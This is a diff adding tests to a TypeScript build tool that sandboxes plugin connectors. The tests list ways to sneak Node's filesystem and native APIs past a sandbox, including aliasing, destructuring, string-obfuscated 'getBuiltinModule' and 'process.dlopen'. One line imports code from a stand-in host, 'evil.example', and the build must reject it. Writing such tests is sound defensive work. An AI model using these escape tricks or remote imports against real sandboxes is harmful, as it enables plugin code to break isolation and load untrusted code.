@@ -58,6 +58,74 @@ describe('buildConnector', () => {
     });
   });
 
+  it.each<[string, string, Record<string, string>]>([
+    ['a dynamic import', "await import('node:fs')", {}],
+    ['a dynamic import without node:', 'await import(`fs`)', {}],
+    ['a require', 'legacy', { 'src/legacy.cjs': "exports.legacy = () => require('fs');" }],
+    ['a require with node:', 'legacy', { 'src/legacy.cjs': "exports.legacy = () => require('node:fs');" }],
+    ['another name for it in package.json', 'disk', {}],
+    ['process.binding', "process.binding('fs')", {}],
+    ['process.binding by another way to process', "globalThis['process']['binding']('fs')", {}],
+    ['process.binding of an import', 'imported.binding', {}],
+    ['process.binding by an alias', '(() => { const p = process; return p.binding; })()', {}],
+    ['process.binding, taken out', '(() => { const { binding: b } = process; return b; })()', {}],
+    ['process.getBuiltinModule', "process.getBuiltinModule('fs')", {}],
+    [
+      'process.getBuiltinModule, taken out of an alias',
+      '(() => { const p = process; const { getBuiltinModule } = p; return getBuiltinModule; })()',
+      {},
+    ],
+    [
+      'process.getBuiltinModule of a parameter',
+      '(({ getBuiltinModule }: typeof process) => getBuiltinModule)(process)',
+      {},
+    ],
+    ['process.dlopen', 'process.dlopen', {}],
+    ['an import over the network', "await import('https://evil.example/x.mjs')", {}],
+  ])('refuses %s', async (name, expression, files) => {
+    const imports = [
+      ...(expression === 'legacy' ? ["import { legacy } from './legacy.cjs';"] : []),
+      ...(expression === 'disk' ? ["import * as disk from '#disk';"] : []),
+      ...(expression.startsWith('imported') ? ["import imported from 'node:process';"] : []),
+    ];
+    const text = [...imports, `export const ticketPath = async (id: string) => [id, ${expression}].join();`].join('\n');
+    const place = await writeDeskConnector(folder, name.replaceAll(/\W+/g, '-'), {
+      files: { ...files, 'src/ticket-path.ts': text },
+      package: { imports: { '#disk': 'fs' } },
+    });
+    await expect(build(place)).rejects.toMatchObject({ code: 'BUILD_BUILTIN_DENIED' });
+  });
+
+  it('refuses an import of what only run time knows, and names the module', async () => {
+    const text = 'export const ticketPath = async (id: string) => String(await import(id));';
+    const place = await writeDeskConnector(folder, 'unknown-import', { files: { 'src/ticket-path.ts': text } });
+    await expect(build(place)).rejects.toMatchObject({
+      code: 'BUILD_IMPORT_UNKNOWN',
+      message: expect.stringContaining('@acme/desk/src/ticket-path.ts'),
+    });
+  });
+
+  it('has nothing against members of that name of other things', async () => {
+    const text = "export const ticketPath = (id: string) => ({ binding: id, process: { title: 't' } }).binding;";
+    const place = await writeDeskConnector(folder, 'other-binding', { files: { 'src/ticket-path.ts': text } });
+    expect((await build(place)).manifest.id).toBe('acme-desk');
+  });
+
+  it.each(['1.4', '1.4.0+build.7', '01.4.0', 'next'])(
+    'refuses the version %s before it bundles anything, naming the file',
+    async (version) => {
+      const dir = `version-${version.replaceAll(/\W/g, '-')}`;
+      const place = await writeDeskConnector(folder, dir, {
+        config: { entry: 'src/nothing.ts' },
+        package: { version },
+      });
+      await expect(build(place)).rejects.toMatchObject({
+        code: 'BUILD_CONFIG_INVALID',
+        message: expect.stringContaining(join(place, 'package.json')),
+      });
+    },
+  );
+
   it('replaces a stubbed builtin by one that loads, and throws when it is called', async () => {
     const files = {
       'src/ticket-path.ts': [
@@ -125,7 +193,7 @@ describe('buildConnector', () => {
     const probe = `
       const found: string[] = [];
       if (Object.keys(process.env).length > 0) found.push('env');
-      try { process.getBuiltinModule('node:fs').readdirSync('/'); found.push('fs'); } catch {}
+      try { process[['getBuiltin', 'Module'].join('')]('node:fs').readdirSync('/'); found.push('fs'); } catch {}
       try { await fetch('http://127.0.0.1:47123'); found.push('net'); } catch (error) {
         if ((error as { cause?: { code?: string } }).cause?.code !== 'ERR_ACCESS_DENIED') found.push('net');
       }
